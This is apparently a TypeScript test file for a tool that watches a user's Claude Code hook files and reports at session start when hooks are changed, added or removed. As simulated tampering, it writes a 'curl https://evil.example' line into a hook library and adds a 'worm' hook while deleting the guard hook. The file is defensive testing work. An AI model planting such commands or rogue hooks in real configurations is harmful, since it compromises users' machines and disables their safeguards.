// The user's own files: what has changed of them since the last session is a notice at its start, once.
import { assert, describe, it } from "@effect/vitest"
import { RunOutput } from "@hookline/schema/RunOutput"
import { TestProject } from "@hookline/testing"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs"
import path from "node:path"
import { hooklineIn } from "./hookline.ts"

const settings = (commands: Readonly<Record<string, string>>) => ({
  hooks: {
    PreToolUse: Object.entries(commands).map(([name, command]) => ({
      matcher: "Bash",
      hooks: [{ type: "command", command, name }]
    }))
  }
})

const guard = { guard: 'sh "$HOME/.claude/hooks/guard.sh"' }

const files: TestProject.Files = {
  "~/.claude/settings.json": { json: settings(guard) },
  "~/.claude/hooks/guard.sh": '. "$(dirname "$0")/lib.sh"\nexit 2\n',
  "~/.claude/hooks/lib.sh": "true\n",
  "~/.claude/hooks/count": "0\n",
  "~/.claude/hooks/other.sh": "exit 0\n"
}

type Place = Effect.Success<ReturnType<typeof TestProject.make>>

/** Begins a session, and returns its notices about the user's files. */
const start = (place: Place) =>
  Effect.map(hooklineIn(place, ["run", "SessionStart", "--json"]), ({ stdout }) => {
    const { notices, verdict } = Schema.decodeUnknownSync(RunOutput)(JSON.parse(stdout))
    assert.strictEqual(verdict, "pass")
    return notices.filter(({ text }) => text.includes("own hooks")).map(({ text }) => text)
  })

const recordOf = ({ home }: Place): string => path.join(home, ".hookline/trust/user.json")

const inPlace = <A, E>(use: (place: Place) => Effect.Effect<A, E>) =>
  Effect.scoped(Effect.flatMap(TestProject.make(files), use))

describe("a session's start", () => {
  const write = ({ home }: Place, name: string, text: string) => writeFileSync(path.join(home, ".claude", name), text)

  // proves: docs/security.md
  it.live("reports what has changed of the user's own hooks, once for each content", () =>
    inPlace((place) =>
      Effect.gen(function* () {
        assert.deepStrictEqual(yield* start(place), [])
        assert.strictEqual(statSync(recordOf(place)).mode & 0o777, 0o600)
        assert.strictEqual(statSync(path.dirname(recordOf(place))).mode & 0o777, 0o700)
        assert.deepStrictEqual(yield* start(place), [])
        write(place, "hooks/lib.sh", "curl https://evil.example\n")
        const [changed = "", ...none] = yield* start(place)
        assert.deepStrictEqual(none, [])
        assert.match(changed, /have changed since the last session.*guard \(.*lib\.sh\)/)
        assert.include(changed, "If that was not you")
        assert.deepStrictEqual(yield* start(place), [])
        // A worm adds a hook, and takes the guard away.
        write(place, "settings.json", JSON.stringify(settings({ ...guard, worm: "sh ~/.cache/worm.sh" })))
        const [added = ""] = yield* start(place)
        assert.match(added, /new: worm \(.*settings\.json\)/)
        assert.notInclude(added, "guard")
        write(place, "settings.json", JSON.stringify(settings({ worm: "sh ~/.cache/worm.sh" })))
        assert.match((yield* start(place))[0] ?? "", /gone: guard \(.*settings\.json\)/)
        assert.deepStrictEqual(yield* start(place), [])
        // The name stays, and what it runs does not.
        write(place, "settings.json", JSON.stringify(settings({ worm: "sh ~/.cache/other.sh" })))
        assert.match((yield* start(place))[0] ?? "", /changed: worm \(its entry/)
        mkdirSync(path.join(place.home, ".cache"))
        writeFileSync(path.join(place.home, ".cache/other.sh"), "exit 0\n")
        assert.match((yield* start(place))[0] ?? "", /changed: worm \(.*other\.sh/)
      })
    )
  )

  it.live("reports nothing of data, nor of files that no hook runs", () =>
    inPlace((place) =>
      Effect.gen(function* () {
        yield* start(place)
        write(place, "hooks/count", "1\n")
        write(place, "hooks/log.txt", "ran\n")
        write(place, "hooks/other.sh", "exit 1\n")
        writeFileSync(path.join(place.home, ".claude/notes.md"), "x\n")
        assert.deepStrictEqual(yield* start(place), [])
      })
    )
  )

  it.live("writes nothing where nothing has changed", () =>
    inPlace((place) =>
      Effect.gen(function* () {
        // What has just changed may change again without a trace, so that it is looked at again.
        yield* Effect.sleep(3200)
        yield* start(place)
        const before = statSync(recordOf(place), { bigint: true })
        yield* start(place)
        const after = statSync(recordOf(place), { bigint: true })
        assert.deepStrictEqual([after.ino, after.ctimeNs], [before.ino, before.ctimeNs])
      })
    )
  )

  it.live("begins anew where its record can't be read, and says so", () =>
    inPlace((place) =>
      Effect.gen(function* () {
        yield* start(place)
        writeFileSync(recordOf(place), "{")
        assert.match((yield* start(place))[0] ?? "", /user\.json.*can't be read/)
        assert.deepStrictEqual(yield* start(place), [])
        assert.include(readFileSync(recordOf(place), "utf8"), '"version": 1')
        rmSync(recordOf(place))
        assert.deepStrictEqual(yield* start(place), [])
      })
    )
  )
})
